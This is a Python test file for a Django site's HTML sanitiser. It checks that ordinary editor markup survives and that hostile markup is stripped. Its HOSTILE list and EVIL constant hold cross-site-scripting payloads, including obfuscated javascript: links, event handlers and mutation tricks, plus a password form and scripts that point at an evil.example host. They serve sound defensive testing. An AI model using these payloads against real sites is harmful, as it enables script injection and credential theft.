"""Whatever comes in, nothing that acts comes out; and what is harmless stays as it is."""

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from reviews import publishing
from reviews.models import LiveGuide, Question, Revision, Text
from reviews.richtext.cleaning import clean
from reviews.richtext.rendering import Anchors, plain, render
from tests import builders
from tests.builders import AT

KEPT = [
    "<p>Plain &amp; simple</p>",
    "<h2>One</h2><h3>Two</h3><h4>Three</h4>",
    "<p><strong>bold</strong> <em>slanted</em> H<sub>2</sub>O m<sup>2</sup><br>next</p>",
    '<ol start="3"><li>three</li></ol><ul><li>one<ul><li>inside</li></ul></li></ul>',
    '<blockquote><p>said</p></blockquote><hr><p><a href="https://x.example/?a=1&amp;b=2">x</a></p>',
    '<p><a href="mailto:a@x.example">m</a> <a href="/guides/x/">g</a> <a href="#part">p</a></p>',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    "<p>كهربائي 日本語 🙂</p>",
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example\\@evil.example/'>x</a>",
    "<p onclick='alert(1)' style='position:fixed' id='content' class='notice'>x</p>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
    "<style>.notice{display:none}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "</main><div data-notice='none'>x</div><main>",
    "<a rel='sponsored' data-placement=1 href='https://shop.example/'>x</a>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<h1>x</h1><video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>x</marquee>",
]

ACTS = (
    "script, style, iframe, object, embed, form, input, button, svg, math, link, meta, base, img, "
    "video, audio, template, [style], [class], [id], [data-notice], [data-placement], [rel], "
    "a[href^='javascript'], a[href^='data'], a[href^='vbscript'], a[href*='\\\\']"
)


@pytest.mark.parametrize("html", KEPT)
def test_what_editors_may_write_stays_as_it_is(html: str) -> None:
    assert clean(html) == html


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_is_kept(html: str) -> None:
    cleaned = clean(html)
    page = LexborHTMLParser(f"<main>{cleaned}</main>")
    found = page.css_first("main")
    assert found is not None
    assert not found.css(ACTS)
    assert not any(name.startswith("on") for node in found.css("*") for name in node.attributes)
    assert len(page.css("main")) == 1
    assert clean(cleaned) == cleaned


@given(st.text(alphabet="<>/\"'= abhrefscriptonloadtd&#;:\x00\n"))
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    once = clean(html)
    assert clean(once) == once
    assert not LexborHTMLParser(f"<main>{once}</main>").css("script, [onload]")


def test_deep_nesting_is_answered() -> None:
    assert "deep" in clean("<blockquote>" * 20_000 + "deep")


def test_a_table_from_the_editor_gets_a_head_and_scopes() -> None:
    html = (
        "<table><tbody><tr><th><p>Dose</p></th><th><p>Use</p></th></tr>"
        "<tr><th><p>One</p></th><td><p>Two</p><p>lines</p></td></tr></tbody></table>"
    )
    assert clean(html) == (
        '<table><thead><tr><th scope="col">Dose</th><th scope="col">Use</th></tr></thead>'
        '<tbody><tr><th scope="row">One</th><td><p>Two</p><p>lines</p></td></tr></tbody></table>'
    )


def test_a_table_without_a_header_row_is_left_alone() -> None:
    html = "<table><tbody><tr><td>1</td></tr></tbody></table>"
    assert clean(html) == html


def test_headings_without_words_are_left_out() -> None:
    assert clean("<h2> <br></h2><p>x</p><h3>&nbsp;</h3>") == "<p>x</p>"


@pytest.mark.parametrize("html", ["", "<p></p>", "<p> &nbsp;</p>", "<p><br></p>"])
def test_what_shows_nothing_is_empty(html: str) -> None:
    assert clean(html) == ""


def test_headings_get_anchors_no_two_alike() -> None:
    text, headings = render("<h2>Über A</h2><h3>Über A</h3><h2>!</h2><h4>x</h4>", Anchors(), {})
    assert [(one.level, one.anchor) for one in headings] == [
        (2, "uber-a"),
        (3, "uber-a-2"),
        (2, "part"),
    ]
    assert 'id="uber-a-2"' in str(text.pieces[0])


def test_a_table_scrolls_inside_a_region_with_a_name() -> None:
    text, _ = render(
        "<table><caption>A “B” &lt;c&gt;</caption><tr><td>1</td></tr></table>", Anchors(), {}
    )
    region = LexborHTMLParser(str(text.pieces[0])).css_first(
        "div.scroll[role=region][tabindex='0']"
    )
    assert region is not None
    assert region.attributes["aria-label"] == "A “B” <c>"
    assert region.css_first("table td") is not None


def test_plain_words_keep_blocks_apart() -> None:
    html = "<h2>A</h2><p>x &lt;b&gt;<br>y</p><ul><li>1</li><li>2</li></ul><table><tr><td>3</td><td>4</td></tr></table>"
    assert plain(html).splitlines() == ["A", "x <b>", "y", "1", "2", "3 4"]


EVIL = "<p>ok</p><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:1'>x</a>"


@pytest.mark.django_db
def test_rows_made_by_code_are_clean() -> None:
    guide = builders.guide()
    made = Text.objects.create(guide=guide, html=EVIL)
    Text.objects.bulk_create([Text(guide=guide, html=EVIL)])
    Question.objects.create(guide=guide, question="<b>", answer=EVIL)
    Text.objects.update_or_create(pk=made.pk, defaults={"html": EVIL})
    for html in Text.objects.values_list("html", flat=True):
        assert "alert" not in html
        assert "javascript" not in html
    assert Question.objects.get().answer == "<p>ok</p><a>x</a>"


@pytest.mark.django_db
def test_hostile_json_in_a_revision_comes_out_clean(client: Client) -> None:
    guide = builders.guide()
    publishing.publish(guide, by=None, at=AT)
    blocks = [
        {"kind": "text", "html": EVIL},
        {"kind": "conclusion", "heading": "<script>alert(1)</script>", "html": EVIL},
        {"kind": "question", "question": "<img src=x onerror=alert(1)>", "answer": EVIL},
        {"kind": "takeaways", "heading": "<b>", "points": "<script>alert(1)</script>"},
        {"kind": "table", "caption": "<b>", "look": "table", "first_column_heads": True,
         "cells": [["<script>alert(1)</script>"], ["<b>x</b>"]]},
        {"kind": "quotation", "words": "<script>alert(1)</script>", "speaker": "<b>", "credential": "",
         "said_in": "<i onclick=alert(1)>here", "source_url": "javascript:alert(1)", "consent": ""},
        {"kind": "source", "title": "<b>", "publisher": "x", "year": None, "url": "javascript:alert(1)"},
        {"kind": "carousel", "of": "another time"},
        {"kind": "question", "question": "Deep?", "answer": "<h2>Under a question</h2><p>x</p>"},
        {"kind": "productbox", "product": 99999, "note": "<script>"},
        {"kind": "comparisonembed", "comparison": 99999, "rows": 3},
    ]  # fmt: skip
    before = guide.revisions.get()
    data = before.data | {"blocks": blocks}
    raw = Revision.objects.create(guide=guide, number=2, data=data, digest="0" * 64, created_at=AT)
    LiveGuide.objects.update(revision=raw)
    response = client.get("/guides/how-to-boil-water/")
    assert response.status_code == 200
    main = LexborHTMLParser(response.content.decode()).css_first("main")
    assert main is not None
    assert [one.text() for one in main.css("h4")] == ["Under a question"]
    assert not main.css("script, img, b, [onerror], a[href^='javascript']")
